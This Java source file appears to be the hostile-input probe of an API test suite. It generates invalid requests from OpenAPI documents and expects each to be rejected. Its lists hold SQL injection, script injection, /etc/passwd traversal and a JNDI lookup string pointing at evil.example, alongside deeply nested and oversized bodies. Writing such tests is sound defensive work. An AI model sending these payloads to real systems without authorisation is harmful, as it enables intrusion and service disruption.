package cn.wenming.suite.probe;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.function.Consumer;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;

import cn.wenming.suite.Suite;
import cn.wenming.suite.probe.Report.Count;

/**
 * Hostile input generated from the OpenAPI documents, for every operation: bad path ids, bad query
 * values, and for every body field wrong types, missing and extra fields, server-owned fields, 1 MB
 * strings, values out of range, invalid UTF-8, control characters, SQL and HTML where the field is
 * typed; plus whole bodies that are broken or nested thousands deep. Every request is invalid by
 * construction, so every answer must be a 4xx problem, and nothing may be stored.
 */
final class HostileProbe {

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Ids that are not UUIDs, already percent-encoded for a path segment. */
    static final List<String> BAD_IDS = List.of("1", "-1", "abc", "null", "%27%20OR%20%271%27%3D%271",
            "1%3B%20DROP%20TABLE%20bulletin%3B--", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "..%2F..%2Fetc%2Fpasswd", "%00",
            "%C3%28", "00000000-0000-0000-0000-00000000000g", "x".repeat(300), "%E6%96%87%E6%98%8E");

    /** Fields only the server sets (API conventions): never accepted from a client. */
    static final List<String> SERVER_OWNED = List.of("id", "version", "status", "number", "issueNumber", "cumulativeNumber",
            "createdAt", "updatedAt", "createdBy", "publishedAt", "overdue");

    static final List<String> TYPED_FRAGMENTS = List.of("' OR '1'='1", "1; DROP TABLE bulletin;--", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "../../etc/passwd", "${jndi:ldap://evil.example/a}");

    static final String ONE_MB = "a".repeat(1024 * 1024);

    /** One hostile request: a name for the summary, and what is sent. */
    record Attempt(String what, String method, String url, String contentType, byte[] body) {
    }

    private final Suite suite;
    private final Http http;
    private final Report report;

    HostileProbe(Suite suite, Http http) {
        this.suite = suite;
        this.http = http;
        this.report = http.report();
    }

    List<Attempt> generate(List<Api.Operation> ops) {
        List<Attempt> all = new ArrayList<>();
        for (Api.Operation op : ops) {
            generate(op, all::add);
        }
        return all;
    }

    void run(List<Attempt> attempts, String token, Parallel parallel) {
        List<Runnable> tasks = new ArrayList<>();
        for (Attempt a : attempts) {
            tasks.add(() -> send(a, token));
        }
        parallel.run(tasks);
    }

    private void send(Attempt attempt, String token) {
        report.inc(Count.HOSTILE);
        Http.Answer a = http.send(attempt.method(), attempt.url(), attempt.contentType(), attempt.body(),
                "Authorization", "Bearer " + token);
        http.check(attempt.what(), a);
        if (a.status() >= 200 && a.status() < 400) {
            report.fail(Count.HOSTILE_ACCEPTED, attempt.what() + ": accepted with " + a.status() + " " + Http.abbreviate(a.text()));
        }
    }

    private void generate(Api.Operation op, Consumer<Attempt> out) {
        String method = op.method().toUpperCase();
        String base = suite.serviceUrl(op.service());
        String goodPath = op.path(UUID.randomUUID().toString());
        String label = op.key();
        // path ids that are not UUIDs
        if (!op.params("path").isEmpty()) {
            for (String bad : BAD_IDS) {
                out.accept(new Attempt(label + " with path id " + bad, method, base + op.path(bad), bodyType(op), minimalBody(op)));
            }
            if (op.params("path").size() > 1) {
                String firstGood = op.path().replaceFirst("\\{[^}]+}", UUID.randomUUID().toString());
                for (String bad : BAD_IDS.subList(0, 6)) {
                    out.accept(new Attempt(label + " with last path id " + bad, method, base + firstGood.replaceAll("\\{[^}]+}", bad),
                            bodyType(op), minimalBody(op)));
                }
            }
        }
        // query values of the wrong type or form
        for (Api.Param p : op.params("query")) {
            for (String bad : badQueryValues(p)) {
                out.accept(new Attempt(label + " with ?" + p.name() + "=" + abbreviate(bad), method,
                        base + goodPath + "?" + p.name() + "=" + bad, bodyType(op), minimalBody(op)));
            }
        }
        // bodies
        for (Map.Entry<String, JsonNode> body : op.bodies().entrySet()) {
            String type = body.getKey();
            String url = base + goodPath;
            if (type.contains("json")) {
                JsonNode schema = body.getValue();
                JsonNode example = op.examples().containsKey(type) ? op.examples().get(type) : synthesize(op, schema, 0);
                jsonBodies(op, label, method, url, schema, example, out);
            } else {
                for (var raw : rawBodies().entrySet()) {
                    out.accept(new Attempt(label + " with a " + type + " body of " + raw.getKey(), method, url, type, raw.getValue()));
                }
            }
        }
    }

    private static String bodyType(Api.Operation op) {
        return op.bodies().isEmpty() ? null : op.bodies().keySet().iterator().next();
    }

    /** For attacks elsewhere than the body: an empty JSON object (invalid for every body that has required fields). */
    private static byte[] minimalBody(Api.Operation op) {
        String type = bodyType(op);
        if (type == null) {
            return null;
        }
        return type.contains("json") ? "{}".getBytes(StandardCharsets.UTF_8) : new byte[0];
    }

    private static List<String> badQueryValues(Api.Param p) {
        JsonNode s = p.schema();
        String type = Api.type(s);
        String format = s.path("format").asText();
        List<String> bad = new ArrayList<>();
        switch (p.name()) {
            case "limit" -> bad.addAll(List.of("0", "101", "-1", "abc", "1e3", "99999999999999999999", "%00"));
            case "cursor" -> bad.addAll(List.of("garbage!", "eyJ4IjoxfQ", "%27%20OR%201%3D1--", "%00", "A".repeat(3000)));
            case "sort" -> bad.addAll(List.of("nope", "-", "--issueDate", "id%3Bdrop%20table%20x", "%27", "%00"));
            default -> {
                if (type.equals("integer") || type.equals("number")) {
                    bad.addAll(List.of("abc", "1.5", "99999999999999999999", "-99999999999999999999", "1e400", "%00"));
                } else if (type.equals("boolean")) {
                    bad.addAll(List.of("maybe", "%00"));
                } else if (format.equals("date")) {
                    bad.addAll(List.of("2020-02-30", "yesterday", "%27%3B--", "%00"));
                } else if (format.equals("uuid") || p.name().endsWith("Id")) {
                    bad.addAll(List.of("not-a-uuid", "%27%20OR%201%3D1--", "%3Cscript%3E", "%00"));
                } else if (s.has("enum")) {
                    bad.addAll(List.of("NOPE", "%3Cscript%3E", "%27%20OR%201%3D1--", "%00"));
                } else {
                    // free text: any text is valid, control characters are not
                    bad.addAll(List.of("%00", "a%01b", "%1B%5B31m", "%7F%00"));
                }
            }
        }
        return bad;
    }

    /** Bodies that no text or file operation can accept: nothing, NUL bytes, invalid UTF-8, noise. */
    private static Map<String, byte[]> rawBodies() {
        byte[] noise = new byte[4096];
        new java.util.Random(42).nextBytes(noise);
        return Map.of("nothing", new byte[0],
                "NUL bytes", new byte[] { 0, 0, 0, 0 },
                "invalid UTF-8", new byte[] { (byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xFE, 'a' },
                "random bytes", noise,
                "control characters", "\u0001\u0002\u001b[31m\u007f".getBytes(StandardCharsets.UTF_8));
    }

    private void jsonBodies(Api.Operation op, String label, String method, String url, JsonNode schema, JsonNode example,
            Consumer<Attempt> out) {
        String json = "application/json; charset=UTF-8";
        List<String[]> broken = List.of(
                new String[] { "a truncated object", "{\"a\":" },
                new String[] { "a lone brace", "{" },
                new String[] { "single quotes", "{'a':'b'}" },
                new String[] { "a trailing comma", "{\"a\":1,}" },
                new String[] { "a comment", "/* x */ {}" },
                new String[] { "null", "null" },
                new String[] { "a string", "\"text\"" },
                new String[] { "a number", "12" },
                new String[] { "NaN", "{\"a\": NaN}" },
                new String[] { Api.type(schema).equals("array") ? "an object instead of an array" : "an array instead of an object",
                        Api.type(schema).equals("array") ? "{}" : "[]" },
                new String[] { "arrays nested 100,000 deep", "[".repeat(100_000) + "]".repeat(100_000) },
                new String[] { "objects nested 20,000 deep", "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000) });
        for (String[] b : broken) {
            out.accept(new Attempt(label + " with " + b[0], method, url, json, b[1].getBytes(StandardCharsets.UTF_8)));
        }
        out.accept(new Attempt(label + " with no body", method, url, json, null));
        out.accept(new Attempt(label + " with an empty body", method, url, json, new byte[0]));
        if (!op.bodies().containsKey("text/plain")) {
            out.accept(new Attempt(label + " with the example as text/plain", method, url, "text/plain; charset=UTF-8",
                    example.toString().getBytes(StandardCharsets.UTF_8)));
        }
        out.accept(new Attempt(label + " with the example as application/xml", method, url, "application/xml",
                "<a>1</a>".getBytes(StandardCharsets.UTF_8)));
        out.accept(new Attempt(label + " with invalid UTF-8 in the body", method, url, json,
                concat("{\"x\":\"".getBytes(StandardCharsets.UTF_8), new byte[] { (byte) 0xC3, 0x28, (byte) 0xFF }, "\"}".getBytes(StandardCharsets.UTF_8))));
        if (example.isObject()) {
            ObjectNode extra = example.deepCopy();
            extra.put("colour", "红");
            out.accept(new Attempt(label + " with an unknown field", method, url, json, bytes(extra)));
            Set<String> known = properties(op, schema);
            for (String owned : SERVER_OWNED) {
                if (!known.contains(owned)) {
                    ObjectNode withOwned = example.deepCopy();
                    withOwned.set(owned, owned.endsWith("At") ? new TextNode("2020-01-01T00:00:00+08:00")
                            : owned.equals("id") ? new TextNode(UUID.randomUUID().toString())
                            : owned.equals("status") ? new TextNode("PUBLISHED") : owned.equals("overdue") ? NODES.booleanNode(true) : NODES.numberNode(7));
                    out.accept(new Attempt(label + " with the server-owned field " + owned, method, url, json, bytes(withOwned)));
                }
            }
        }
        fields(op, label, method, url, schema, example, new ArrayList<>(), 0, out);
    }

    private static Set<String> properties(Api.Operation op, JsonNode schema) {
        Set<String> names = new java.util.HashSet<>();
        op.resolve(schema).path("properties").fieldNames().forEachRemaining(names::add);
        return names;
    }

    /** Mutations of each field of {@code schema}, found at {@code path} in the example. */
    private void fields(Api.Operation op, String label, String method, String url, JsonNode schema, JsonNode example,
            List<Object> path, int depth, Consumer<Attempt> out) {
        if (depth > 4) {
            return;
        }
        JsonNode s = op.resolve(schema);
        String type = Api.type(s);
        if (type.equals("object") && s.has("properties")) {
            Set<String> required = new java.util.HashSet<>();
            s.path("required").forEach(r -> required.add(r.asText()));
            Iterator<Map.Entry<String, JsonNode>> props = s.path("properties").fields();
            while (props.hasNext()) {
                var prop = props.next();
                List<Object> at = new ArrayList<>(path);
                at.add(prop.getKey());
                JsonNode fieldSchema = op.resolve(prop.getValue());
                mutate(op, label, method, url, example, at, fieldSchema, required.contains(prop.getKey()), out);
                JsonNode current = get(example, at);
                if (current == null || current.isMissingNode() || current.isNull()) {
                    // give the field a value so that what is inside it can be attacked too
                    JsonNode filled = synthesize(op, fieldSchema, 0);
                    JsonNode copy = set(example, at, filled);
                    fields(op, label, method, url, fieldSchema, copy, at, depth + 1, out);
                } else {
                    fields(op, label, method, url, fieldSchema, example, at, depth + 1, out);
                }
            }
        } else if (type.equals("array")) {
            JsonNode items = op.resolve(s.path("items"));
            JsonNode current = get(example, path);
            JsonNode base = example;
            if (current == null || !current.isArray() || current.isEmpty()) {
                ArrayNode one = NODES.arrayNode();
                one.add(synthesize(op, items, 0));
                base = set(example, path, one);
            }
            List<Object> at = new ArrayList<>(path);
            at.add(0);
            mutate(op, label, method, url, base, at, items, true, out);
            fields(op, label, method, url, items, base, at, depth + 1, out);
        }
    }

    private void mutate(Api.Operation op, String label, String method, String url, JsonNode example, List<Object> at,
            JsonNode s, boolean required, Consumer<Attempt> out) {
        String json = "application/json; charset=UTF-8";
        String name = pointer(at);
        Consumer<Object[]> emit = (pair) -> out.accept(new Attempt(label + " with " + name + " " + pair[0], method, url, json,
                pair[1] instanceof byte[] raw ? raw : bytes(set(example, at, (JsonNode) pair[1]))));
        if (required && !(at.get(at.size() - 1) instanceof Integer)) {
            emit.accept(new Object[] { "missing", remove(example, at) });
            emit.accept(new Object[] { "null", NODES.nullNode() });
        }
        String type = Api.type(s);
        switch (type) {
            case "string" -> {
                emit.accept(new Object[] { "a number", NODES.numberNode(12345) });
                emit.accept(new Object[] { "a boolean", NODES.booleanNode(true) });
                emit.accept(new Object[] { "an object", NODES.objectNode().put("a", 1) });
                emit.accept(new Object[] { "an array", NODES.arrayNode().add("x") });
                emit.accept(new Object[] { "1 MB long", new TextNode(ONE_MB) });
                emit.accept(new Object[] { "a NUL character", new TextNode("文明\u0000") });
                emit.accept(new Object[] { "control characters", new TextNode("a\u0001b\u001b[31m") });
                emit.accept(new Object[] { "invalid UTF-8", raw(example, at, new byte[] { '"', (byte) 0xC3, 0x28, (byte) 0xFF, '"' }) });
                emit.accept(new Object[] { "a lone surrogate", raw(example, at, "\"\\ud800x\"".getBytes(StandardCharsets.US_ASCII)) });
                emit.accept(new Object[] { "DEL and backspace", new TextNode("a\u007f\bb") });
                boolean typed = s.has("format") || s.has("enum") || s.has("pattern");
                if (typed && !s.path("pattern").asText().equals("\\S")) {
                    for (String fragment : TYPED_FRAGMENTS) {
                        emit.accept(new Object[] { "\"" + fragment + "\"", new TextNode(fragment) });
                    }
                }
                if (s.has("maxLength") && s.get("maxLength").asInt() < 100_000) {
                    emit.accept(new Object[] { "one character too long", new TextNode("长".repeat(s.get("maxLength").asInt() + 1)) });
                }
                if (s.path("minLength").asInt() > 0 || s.path("pattern").asText().equals("\\S")) {
                    emit.accept(new Object[] { "blank", new TextNode("   ") });
                }
            }
            case "integer", "number" -> {
                emit.accept(new Object[] { "a string", new TextNode("abc") });
                emit.accept(new Object[] { "a numeric string", new TextNode("12") });
                emit.accept(new Object[] { "a boolean", NODES.booleanNode(true) });
                emit.accept(new Object[] { "an object", NODES.objectNode() });
                emit.accept(new Object[] { "1e400", raw(example, at, "1e400".getBytes(StandardCharsets.US_ASCII)) });
                emit.accept(new Object[] { "2^70", raw(example, at, "1180591620717411303424".getBytes(StandardCharsets.US_ASCII)) });
                emit.accept(new Object[] { "-2^70", raw(example, at, "-1180591620717411303424".getBytes(StandardCharsets.US_ASCII)) });
                if (type.equals("integer")) {
                    emit.accept(new Object[] { "a fraction", NODES.numberNode(1.5) });
                }
                if (s.has("maximum")) {
                    emit.accept(new Object[] { "above its maximum", NODES.numberNode(s.get("maximum").asLong() + 1) });
                }
                if (s.has("minimum")) {
                    emit.accept(new Object[] { "below its minimum", NODES.numberNode(s.get("minimum").asLong() - 1) });
                }
            }
            case "boolean" -> {
                emit.accept(new Object[] { "a string", new TextNode("yes") });
                emit.accept(new Object[] { "a number", NODES.numberNode(1) });
            }
            case "array" -> {
                emit.accept(new Object[] { "an object", NODES.objectNode().put("a", 1) });
                emit.accept(new Object[] { "a string", new TextNode("x") });
                if (s.has("maxItems") && s.get("maxItems").asInt() < 2000) {
                    JsonNode item = get(example, at) != null && get(example, at).isArray() && !get(example, at).isEmpty()
                            ? get(example, at).get(0) : synthesize(op, op.resolve(s.path("items")), 0);
                    ArrayNode many = NODES.arrayNode();
                    for (int i = 0; i <= s.get("maxItems").asInt(); i++) {
                        many.add(item.deepCopy());
                    }
                    emit.accept(new Object[] { "one item too many", many });
                }
            }
            case "object" -> {
                emit.accept(new Object[] { "an array", NODES.arrayNode().add(1) });
                emit.accept(new Object[] { "a string", new TextNode("x") });
            }
            default -> {
            }
        }
    }

    /** A plausible value for a schema, for bodies whose document has no example. */
    static JsonNode synthesize(Api.Operation op, JsonNode schema, int depth) {
        JsonNode s = op.resolve(schema);
        if (s.has("example")) {
            return s.get("example");
        }
        if (s.has("examples") && s.get("examples").isArray() && !s.get("examples").isEmpty()) {
            return s.get("examples").get(0);
        }
        if (s.has("enum") && !s.get("enum").isEmpty()) {
            return s.get("enum").get(0);
        }
        switch (Api.type(s)) {
            case "object": {
                ObjectNode o = NODES.objectNode();
                if (depth < 4) {
                    s.path("properties").fields().forEachRemaining(e -> o.set(e.getKey(), synthesize(op, e.getValue(), depth + 1)));
                }
                return o;
            }
            case "array": {
                ArrayNode a = NODES.arrayNode();
                if (depth < 4) {
                    a.add(synthesize(op, s.path("items"), depth + 1));
                }
                return a;
            }
            case "integer":
            case "number":
                return NODES.numberNode(s.has("minimum") ? s.get("minimum").asLong() : 1);
            case "boolean":
                return NODES.booleanNode(true);
            default:
                return switch (s.path("format").asText()) {
                    case "uuid" -> new TextNode(UUID.randomUUID().toString());
                    case "date" -> new TextNode("2020-04-24");
                    case "date-time" -> new TextNode("2020-04-24T10:00:00+08:00");
                    default -> new TextNode("首都精神文明办");
                };
        }
    }

    // ---- JSON tree edits on copies ---------------------------------------------------------------

    private static JsonNode get(JsonNode root, List<Object> path) {
        JsonNode n = root;
        for (Object step : path) {
            if (n == null) {
                return null;
            }
            n = step instanceof Integer i ? n.get(i) : n.get((String) step);
        }
        return n;
    }

    /** A copy of {@code root} with the value at {@code path} replaced (containers made as needed). */
    static JsonNode set(JsonNode root, List<Object> path, JsonNode value) {
        if (path.isEmpty()) {
            return value;
        }
        JsonNode copy = root == null || root.isNull() || root.isMissingNode()
                ? (path.get(0) instanceof Integer ? NODES.arrayNode() : NODES.objectNode()) : root.deepCopy();
        JsonNode parent = copy;
        for (int i = 0; i < path.size() - 1; i++) {
            Object step = path.get(i);
            Object next = path.get(i + 1);
            JsonNode child = step instanceof Integer idx ? parent.get(idx) : parent.get((String) step);
            if (child == null || !(child.isObject() || child.isArray())) {
                child = next instanceof Integer ? NODES.arrayNode() : NODES.objectNode();
                put(parent, step, child);
            }
            parent = child;
        }
        put(parent, path.get(path.size() - 1), value);
        return copy;
    }

    private static void put(JsonNode parent, Object step, JsonNode value) {
        if (step instanceof Integer idx && parent instanceof ArrayNode a) {
            while (a.size() <= idx) {
                a.addNull();
            }
            a.set(idx, value);
        } else if (parent instanceof ObjectNode o) {
            o.set(String.valueOf(step), value);
        }
    }

    private static byte[] remove(JsonNode root, List<Object> path) {
        JsonNode copy = root.deepCopy();
        JsonNode parent = get(copy, path.subList(0, path.size() - 1));
        if (parent instanceof ObjectNode o) {
            o.remove((String) path.get(path.size() - 1));
        }
        return bytes(copy);
    }

    /** The example with the raw bytes (not JSON-escaped) where the value at {@code path} is. */
    private static byte[] raw(JsonNode root, List<Object> path, byte[] raw) {
        String marker = "@@RAW" + UUID.randomUUID() + "@@";
        String text = set(root, path, new TextNode(marker)).toString();
        int at = text.indexOf("\"" + marker + "\"");
        return concat(text.substring(0, at).getBytes(StandardCharsets.UTF_8), raw,
                text.substring(at + marker.length() + 2).getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] bytes(JsonNode node) {
        return node.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    private static String pointer(List<Object> path) {
        StringBuilder b = new StringBuilder();
        for (Object step : path) {
            if (step instanceof Integer i) {
                b.append('[').append(i).append(']');
            } else {
                b.append(b.length() == 0 ? "" : ".").append(step);
            }
        }
        return b.length() == 0 ? "the body" : b.toString();
    }

    private static String abbreviate(String s) {
        return s.length() > 40 ? s.substring(0, 40) + "…(" + s.length() + ")" : s;
    }
}
